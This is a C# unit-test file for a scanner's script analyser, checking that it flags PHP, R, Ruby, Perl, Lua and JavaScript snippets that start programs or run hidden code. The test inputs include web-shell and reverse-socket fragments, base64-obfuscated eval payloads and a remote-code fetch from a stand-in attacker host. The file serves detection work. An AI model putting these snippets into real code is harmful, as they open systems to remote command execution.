using System.Text;
using Assay.Analysis.Testing;
using Assay.Contracts.Values;
using Assay.Inspect.Analysers.Script;

namespace Assay.Tests.Unit.Inspect.Analysers.Script;

/// <summary>Scripts in languages that are searched, not parsed: what starts programs is found, what only computes is not.</summary>
public sealed class ScriptTests
{
    private static Task<TestBedResult> Run(string script) =>
        TestBed.For(new ScriptAnalyser()).WithBytes(Encoding.UTF8.GetBytes(script)).As(FileFormat.Script).RunAsync(TestContext.Current.CancellationToken);

    [Theory]
    [InlineData("<?php\nsystem('echo assay-canary');")]
    [InlineData("<?php\nshell_exec($_GET['c']);")]
    [InlineData("<?php\neval(base64_decode('ZWNobyAxOw=='));")]
    [InlineData("<?php\neval(gzinflate($packed));")]
    [InlineData("<?php\n$s = fsockopen('10.0.0.1', 4444);")]
    [InlineData("x <- 1\nsystem('echo assay-canary')")]
    [InlineData("x <- 1\nsystem2('sh', c('-c', 'id'))")]
    [InlineData("eval(parse(text = rawToChar(blob)))")]
    [InlineData("eval(parse('https://attacker.example/x.R'))")]
    [InlineData("source('https://attacker.example/x.R')")]
    [InlineData("using Flux\nrun(`sh -c id`)")]
    [InlineData("require 'open3'\nKernel.system 'id'")]
    [InlineData("x = %x{id}")]
    [InlineData("Marshal.load(File.binread('weights'))")]
    [InlineData("use strict;\nsystem(\"id\");")]
    [InlineData("eval decode_base64($text);")]
    [InlineData("local io = require 'io'\nos.execute('id')")]
    [InlineData("io['popen']('id')")]
    [InlineData("require('child_process').exec('id')")]
    [InlineData("eval(atob('YWxlcnQoMSk='))")]
    [InlineData("new ActiveXObject('WScript.Shell')")]
    public async Task What_starts_programs_or_runs_hidden_code_is_found(string script) =>
        (await Run(script)).Findings.ShouldContain(f => f.Severity >= Severity.High);

    [Theory]
    [InlineData("const cp = require('child_' + 'process')")]
    [InlineData("import { spawn } from 'node:child_process'")]
    [InlineData("package.loadlib('x.so', 'f')")]
    public async Task What_can_start_programs_is_suspicious(string script) =>
        (await Run(script)).Findings.Max(f => f.Severity).ShouldBe(Severity.Medium);

    [Theory]
    [InlineData("<?php\n// system('id') would start a program\n$operating_system = 'linux';")]
    [InlineData("# system('id')\nsystem_size <- 4\nmodel <- lm(y ~ x)\npredict(model)")]
    [InlineData("using Flux\nmodel = Chain(Dense(4 => 3), softmax)\nrun(model)")]
    [InlineData("/* child_process */ export const softmax = x => x.map(Math.exp);")]
    [InlineData("re = /x/; const found = re.exec('text');")]
    [InlineData("-- os.execute('id')\nlocal sum = 0\nfor i = 1, 3 do sum = sum + i end")]
    public async Task What_only_computes_or_speaks_of_it_is_not(string script) =>
        (await Run(script)).Findings.ShouldAllBe(f => f.Severity == Severity.Info);

    [Fact]
    public async Task The_evidence_quotes_the_call_and_the_place()
    {
        var finding = (await Run("<?php\n\nsystem('echo assay-canary');")).Findings.Single(f => f.Rule == "ASY-SHL-020");
        finding.Location.Offset.ShouldNotBeNull().ShouldBeInRange(5, 7);
        finding.Evidence.ShouldContain(e => e.Value.Contains("assay-canary"));
    }
}
